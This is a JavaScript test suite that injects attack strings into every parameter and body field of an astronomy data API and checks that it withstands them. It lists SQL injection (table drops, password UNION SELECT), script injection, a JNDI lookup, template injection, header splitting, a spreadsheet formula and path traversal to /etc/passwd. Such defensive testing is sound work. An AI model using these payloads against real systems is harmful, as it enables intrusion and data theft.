/**
 * What attackers write into text, in every place where the API takes any: the OpenAPI document names the places, so that
 * a new route is attacked too.
 *
 * Sources: OWASP, Web Security Testing Guide 4.2, 4.5.1 (paths), 4.7.1 to 4.7.5 (scripts, SQL) and 4.7.15 (header lines).
 */

import assert from 'node:assert/strict';
import { request } from 'node:http';
import { before, test } from 'node:test';
import { setTimeout } from 'node:timers/promises';

const suite = process.env.LYNCEUS_URL ?? 'http://127.0.0.1:8080';
const METHODS = ['get', 'put', 'post', 'delete'];
const ATTACKS = {
  'SQL that ends a statement': "'; DROP TABLE votes; DROP TABLE sources; --",
  'SQL that is always true': "x' OR '1'='1",
  'SQL of another table': "x' UNION SELECT name, password FROM accounts --",
  'a JSON path': `x"]') OR jsonb_path_exists('{}', '$[*]') --`,
  'a script': '<script>alert(1)</script>',
  'an attribute': '"><img src=x onerror=alert(1)>',
  'a lookup': '${jndi:ldap://elsewhere.example/a}',
  'a template': '{{7*7}}#{7*7}%{7*7}',
  'a path': '../../../../etc/passwd',
  'an encoded path': '..%2f..%2f..%2fetc%2fpasswd',
  'another service': 'x/../../q/metrics',
  'a line of a header': 'x\r\nSet-Cookie: lynceus-session=stolen',
  'a NUL': 'x\0y',
  'half a character': 'x\ud83d',
  'a formula': "=cmd|' /C calc'!A0",
  'a long text': 'x'.repeat(5_000),
};

/** What is at the places that are not attacked, so that a request gets as far as it can. */
const USUAL = { user: 'ada', name: 'weighted-evidence', version: '1', table: 'votes', number: '1' };

/** Bodies of which the document has no example: a notice, and a file with a row. */
const BODIES = {
  '/api/v1/notices': {
    $schema: 'https://gcn.nasa.gov/schema/main/gcn/notices/maxi/gsc.unknown.schema.json',
    mission: 'MAXI',
    instrument: 'GSC',
    trigger_time: '2026-01-02T02:00:00Z',
    id: '777',
    event_name: 'GRB 260102A',
    ra: 10,
    dec: 20,
    ra_dec_error: 0.4,
    flux: 1.5e-9,
    flux_error: 2e-10,
    flux_spectral_band: [2, 4],
  },
  '/api/v1/labels/imports/{name}': {
    classification_id: '1',
    user_name: 'ada',
    workflow_id: '1234',
    created_at: '2026-01-02 02:00:00 UTC',
    metadata: '{}',
    annotations: '[{"task": "T0", "value": "A quasar"}]',
    subject_data: '{"1": {"source_id": "lx-gezdgnbvgy3t"}}',
    subject_ids: '1',
  },
};

let api;
let source;
let comment;

before(async () => {
  api = await json('/q/openapi?format=json');
  [source] = (await json('/api/v1/sources?class=AGN&limit=1')).sources;
  comment = (await said('POST', `/api/v1/sources/${source.source_id}/comments`, { user: 'ada', key: 'attacked', text: 'Hm.' })).id;
});

async function json(path) {
  const response = await fetch(suite + path);
  assert.equal(response.status, 200, path);
  return response.json();
}

async function said(method, path, body) {
  const response = await fetch(suite + path, { method, headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
  assert.ok(response.ok, `${method} ${path}: ${response.status}`);
  return response.json();
}

/** Each operation, with what it is asked with usually. */
function operations() {
  return Object.entries(api.paths).flatMap(([path, item]) =>
    METHODS.filter(method => item[method]).map(method => {
      const { parameters = [], requestBody } = item[method];
      const [type, content] = Object.entries(requestBody?.content ?? {})[0] ?? [];
      return { method: method.toUpperCase(), path, parameters, type, body: example(content) ?? BODIES[path] };
    }),
  );
}

function example(content) {
  const first = content?.example ?? Object.values(content?.examples ?? {})[0];
  return first?.$ref ? api.components.examples[first.$ref.split('/').at(-1)].value : (first?.value ?? first);
}

/** Each copy of a document with the attack in the place of one of its texts, and the place. */
function* attacked(document, attack, place = 'body') {
  if (typeof document === 'string') {
    yield [place, attack];
  } else if (document && typeof document === 'object') {
    for (const [key, value] of Object.entries(document)) {
      for (const [where, hurt] of attacked(value, attack, `${place}.${key}`)) {
        yield [where, Array.isArray(document) ? document.with(Number(key), hurt) : { ...document, [key]: hurt }];
      }
    }
  }
}

function csv(row) {
  const line = cells => cells.map(cell => `"${cell.replaceAll('"', '""')}"`).join(',');
  return `${line(Object.keys(row))}\n${line(Object.values(row))}\n`;
}

/** Half a character has no place in an address. */
const inAddress = text => encodeURIComponent(String(text).toWellFormed());

function address(path, places = {}) {
  const id = path.includes('/comments/') ? comment : source.source_id;
  return path.replaceAll(/\{(\w+)\}/g, (_, name) => inAddress(places[name] ?? { id, ...USUAL }[name] ?? 'x'));
}

/** Sends a request, and checks in the answer what no attack may change. */
async function withstands(what, method, path, type, body) {
  const response = await fetch(suite + path, {
    method,
    headers: type ? { 'Content-Type': type } : {},
    body: type === 'text/csv' ? csv(body) : type && JSON.stringify(body),
  });
  const kind = response.headers.get('content-type') ?? '';
  const answer = kind.startsWith('text/event-stream') ? '' : await response.text();
  if (kind.startsWith('text/event-stream')) {
    await response.body.cancel();
  }
  const told = `${what}: ${method} ${path.slice(0, 200)}: ${response.status} ${kind} ${answer.slice(0, 300)}`;
  assert.ok(response.status < 500, told);
  assert.doesNotMatch(answer, /PSQLException|org\.postgresql|syntax error at or near|java\.lang|io\.lynceus\.|root:x:0/, told);
  assert.doesNotMatch(kind, /html|svg/, told);
  assert.doesNotMatch(response.headers.get('set-cookie') ?? '', /stolen/, told);
  if (answer !== '') {
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff', told);
  }
}

for (const [name, attack] of Object.entries(ATTACKS)) {
  test(`${name} does no harm anywhere that the API takes text`, async () => {
    let places = 0;
    for (const { method, path, parameters, type, body } of operations()) {
      const told = `${name} in`;
      for (const { name: parameter, in: place } of parameters) {
        const target = place === 'path' ? address(path, { [parameter]: attack }) : `${address(path)}?${parameter}=${inAddress(attack)}`;
        await withstands(`${told} ${parameter}`, method, target, type, body);
        places += 1;
      }
      for (const [where, hurt] of attacked(body, attack)) {
        await withstands(`${told} ${where}`, method, address(path), type, hurt);
        places += 1;
      }
    }
    assert.ok(places > 80, `${places} places`);
  });
}

test('a comment is kept to the letter, whatever it looks like', async () => {
  const refused = ['a line of a header', 'a NUL', 'half a character', 'a long text'];
  for (const [name, text] of Object.entries(ATTACKS).filter(([name]) => !refused.includes(name))) {
    await said('POST', `/api/v1/sources/${source.source_id}/comments`, { user: `fond of ${name}`, key: 'attacked', text });
    const { comments } = await json(`/api/v1/sources/${source.source_id}/comments?limit=1`);
    assert.equal(comments[0].text, text);
  }
});

/** The status and the text at an address that is sent as it is. */
function raw(path) {
  const { hostname, port } = new URL(suite);
  return new Promise((resolve, reject) => {
    request({ hostname, port, path, method: 'GET' }, response => {
      let text = '';
      response.setEncoding('utf8').on('data', part => (text += part)).on('end', () => resolve([response.statusCode, text]));
    })
      .on('error', reject)
      .end();
  });
}

/** What climbs a folder for one reader of addresses and not for another. */
const UP = ['../', '..%2f', '%2e%2e/', '%2e%2e%2f', '..%5c', '..%252f', '..;/', '%c0%ae%c0%ae/', '..%00/'];
for (const up of UP) {
  test(`${up} leads out of no folder and to no other service`, async () => {
    const [, start] = await raw('/');
    for (const begin of ['/', '/assets/', '/sources/', '/api/v1/sources/', '/api/v1/labels/exports/', '/api/v1/models/']) {
      for (const end of ['etc/passwd', 'application.properties', 'META-INF/MANIFEST.MF', 'db/migration/V001__create_accounts.sql']) {
        const path = begin + up.repeat(8) + end;
        const [status, text] = await raw(path);
        const page = begin === '/sources/' && text === start;
        assert.ok(status === 404 || status === 400 || page, `${path}: ${status} ${text.slice(0, 200)}`);
      }
    }
  });
}

test('after all of it the tables are there, and what comes is classified', async () => {
  assert.equal((await raw('/q/health/ready'))[0], 200);
  await json(`/api/v1/sources/${source.source_id}/votes`);
  await json('/api/v1/labels/ranking');
  const { latest_detection: detection } = await json(`/api/v1/sources/${source.source_id}`);
  const id = `attacked-${process.pid}`;
  await said('POST', '/api/v1/detections', { detections: [{ ...detection, id }] });
  const deadline = Date.now() + 60_000;
  let latest;
  do {
    latest = (await json(`/api/v1/sources/${source.source_id}`)).latest_detection.id;
  } while (latest !== id && Date.now() < deadline && (await setTimeout(200, true)));
  assert.equal(latest, id);
});
